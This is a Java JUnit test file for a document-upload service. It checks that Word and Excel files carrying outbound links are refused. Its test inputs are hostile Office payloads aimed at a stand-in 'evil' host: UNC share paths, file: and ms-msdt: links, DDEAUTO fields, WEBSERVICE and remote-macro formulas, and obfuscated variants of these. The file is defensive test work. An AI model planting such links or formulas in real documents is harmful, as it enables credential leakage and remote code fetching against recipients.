package org.clearancedesk.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.clearancedesk.web.OfficeFile.word;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Office documents that lead to somewhere else than a page, a mail or a place within, by whatever way. */
@RunningDesk
class HandingInDocumentsThatLeadAstrayTest {

    private static final String WEB = "https://evil.example/x";

    private final Floor floor;

    HandingInDocumentsThatLeadAstrayTest(Floor floor) {
        this.floor = floor;
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "\\\\evil\\share\\x",
                "\\/evil/share/x",
                "/\\evil\\share\\x",
                "//evil/share/x",
                "file:\\\\evil\\share\\x",
                "file:/\\evil\\share\\x",
                "file:evil",
                "http:\\\\evil\\x",
                "ms-word:ofe|u|https://evil.example/x.docx",
                "search-ms:query=x&amp;crumb=location:\\\\evil\\share",
                "c:\\windows\\system32\\cmd.exe",
                "..\\x.exe",
                "x.exe",
                "ftp://evil.example/x",
                "&#10;file://evil/x",
                "java&#9;script:alert(1)"
            })
    void aLinkToClickLeadsToAPageOrAMailOnly(String target) {
        isRefused("Agreement.docx", related("hyperlink", target));
    }

    @ParameterizedTest
    @ValueSource(strings = {"image", "slide", "customXml", "frame", "theme", "slideUpdateUrl", "hyperlinks", ""})
    void nothingElseLeadsOutsideEvenToAPage(String type) {
        isRefused("Agreement.docx", related(type, WEB));
        isRefused("Agreement.docx", related(type, "x.png"));
    }

    static Stream<Arguments> followed() {
        return Stream.of(
                arguments("a picture by its relation's number", "<v:imagedata o:relid=\"r1\"/>"),
                arguments("a filling by its relation's number", "<v:fill o:relid=\"r1\"/>"),
                arguments("a drawing by a name of its own", "<a:ext relId=\"r1\"/>"),
                arguments("anything by a name that nobody knows", "<a:ext whatever=\" r1 \"/>"),
                arguments("a link that is followed under the pointer", "<a:hlinkMouseOver r:id=\"r1\"/>"),
                arguments("a link of a shape that is followed under the pointer", "<a:hlinkHover r:id=\"r1\"/>"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("followed")
    void aLinkThatIsFollowedWithoutAClickIsRefused(String what, String content) {
        isRefused(
                "Agreement.docx",
                OfficeFile.text()
                        .related("hyperlink", WEB, true)
                        .with("word/document.xml", word("document", content))
                        .bytes());
        // In the other order, nobody knows yet that it is a link when it is followed.
        isRefused(
                "Agreement.docx",
                OfficeFile.text()
                        .with("word/document.xml", word("document", content))
                        .related("hyperlink", WEB, true)
                        .bytes());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<v:imagedata o:althref=\"http://evil.example/x.png\"/>",
                "<v:imagedata o:althref=\"//evil/x.png\"/>",
                "<v:fill o:href=\"https://evil.example/x.png\"/>",
                "<v:fill src=\"/\\evil\\x.png\"/>",
                "<v:shape src=\"http://evil.example/x.png\"/>",
                "<v:rect href=\"\\/evil/x.exe\"/>",
                "<v:rect href=\"x.exe\"/>",
                "<v:rect href=\"ftp://evil.example\"/>",
                "<w:schema w:manifestLocation=\"\\\\evil\\x.xml\"/>",
                "<w:webVideoPr w:embeddedHtml=\"&lt;iframe src='x'&gt;\"/>",
                "<a:hlinkClick action=\"ppaction://hlinkfile\"/>",
                "<a:hlinkClick action=\"whatever\"/>",
                "<a:hlinkMouseOver action=\"ppaction://program?x\"/>"
            })
    void anAttributeThatLeadsOutsideIsRefused(String content) {
        isRefused("Agreement.docx", withText(content));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "HYPERLINK \\o \"tip\" \"file://evil/x.exe\"",
                "HYPERLINK \\t \"_top\" \\\\\\\\evil\\\\x.exe",
                "HYPERLINK \"\\/evil/x.exe\"",
                "HYPERLINK x.exe",
                "QUOTE \"file://evil/x.exe\"",
                "REF x \"\\\\\\\\evil\\\\share\""
            })
    void aFieldThatLeadsToAFileOrAProgramIsRefused(String instruction) {
        isRefused(
                "Agreement.docx",
                withText("<w:fldChar w:fldCharType=\"begin\"/><w:instrText>" + instruction
                        + "</w:instrText><w:fldChar w:fldCharType=\"end\"/>"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"DDEAUTO c:\\\\x", "HYPERLINK \"file://evil/x.exe\""})
    void aFieldThatWasStruckOutIsReadLikeAnyOther(String instruction) {
        isRefused(
                "Agreement.docx",
                withText("<w:fldChar w:fldCharType=\"begin\"/><w:delInstrText>" + instruction
                        + "</w:delInstrText><w:fldChar w:fldCharType=\"end\"/>"));
    }

    static Stream<Arguments> formulas() {
        String asking = "WEBSERVICE(\"https://evil.example\")";
        return Stream.of(
                arguments("behind an element", "<f>1+<x/>" + asking + "</f>"),
                arguments("around an element", "<f>WEB<x/>SERVICE(\"https://evil.example\")</f>"),
                arguments("within an element", "<f>1+<x><y>" + asking + "</y></x></f>"),
                arguments("behind a formula in a formula", "<f><f>1</f>+" + asking + "</f>"),
                arguments("behind a note", "<f>WEB<!-- x -->SERVICE(A1)</f>"),
                arguments("in letters put in as they are", "<f>WEB<![CDATA[SERVICE(A1)]]></f>"),
                arguments("behind more than anybody writes", "<f>" + "1+".repeat(20_000) + asking + "</f>"),
                arguments("of a scale", "<cfvo type=\"formula\" val=\"WEBSERVICE(A1)\"/>"),
                arguments("of a table that counts", "<cacheField formula=\"WEBSERVICE(A1)\"/>"),
                arguments("of a shape", "<sp textlink=\"'\\\\evil\\[x.xlsx]S'!A1\"/>"),
                arguments("of a control", "<formControlPr fmlaLink=\"'\\\\evil\\[x.xlsx]S'!A1\"/>"),
                arguments("of a button", "<sp macro=\"'\\\\evil\\x.xlsm'!Run\"/>"),
                arguments("of a note's box", "<ClientData><FmlaMacro>'\\\\evil\\x'!Run</FmlaMacro></ClientData>"),
                arguments("of a file server with slashes", "<f>'//evil/share/[x.xlsx]S'!A1</f>"),
                arguments("of a file server with slashes of both kinds", "<f>'\\/evil/share/[x.xlsx]S'!A1</f>"),
                arguments("of a drive", "<f>'z:\\[x.xlsx]S'!A1</f>"),
                arguments("of a place that is told in a text", "<f>INDIRECT(\"'\\\\evil\\[x.xlsx]S'!A1\")</f>"),
                arguments("of a link with slashes", "<f>HYPERLINK(\"//evil/x.exe\")</f>"),
                arguments("of a link with slashes of both kinds", "<f>HYPERLINK(\"/\\evil\\x.exe\")</f>"),
                arguments("of a link in two texts", "<f>HYPERLINK(\"\\\" &amp; \"\\evil\\x.exe\")</f>"),
                arguments("of a link with a scheme in two texts", "<f>HYPERLINK(\"fi\"&amp;\"le://evil/x\")</f>"),
                arguments("of a link that is chosen", "<f>HYPERLINK(IF(A1,\"ms-msdt:/id\",\"\"))</f>"),
                arguments(
                        "of a table of a file server with slashes",
                        "<worksheetSource ref=\"A1\" sheet=\"/\\evil\\share\\[a.xlsx]S\"/>"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("formulas")
    void aFormulaThatFetchesOrLeadsAstrayIsRefused(String what, String cell) {
        isRefused(
                "Sheet.xlsx",
                OfficeFile.sheet().with("xl/sheet1.xml", "<c>" + cell + "</c>").bytes());
    }

    @ParameterizedTest
    @ValueSource(strings = {"\\\\evil\\share\\", "file://evil/", "c:\\"})
    void aBaseOfAllLinksLeadsToAPageOnly(String base) {
        isRefused(
                "Agreement.docx",
                OfficeFile.text()
                        .with(
                                "docProps/app.xml",
                                "<Properties><HyperlinkBase>%s</HyperlinkBase></Properties>".formatted(base))
                        .bytes());
    }

    private void isRefused(String name, byte[] content) {
        Map<String, Long> before = floor.rows();

        Answer refused =
                floor.as("requester").upload("/api/evidence", name, content).expectProblemAt(422, "file");

        assertThat(refused.json().get("detail").asText())
                .contains(name)
                .contains("Please save a copy")
                .doesNotContain("damaged");
        assertThat(floor.rows()).isEqualTo(before);
    }

    private static byte[] related(String type, String target) {
        return OfficeFile.text().related(type, target, true).bytes();
    }

    private static byte[] withText(String content) {
        return OfficeFile.text()
                .with("word/document.xml", word("document", content))
                .bytes();
    }
}
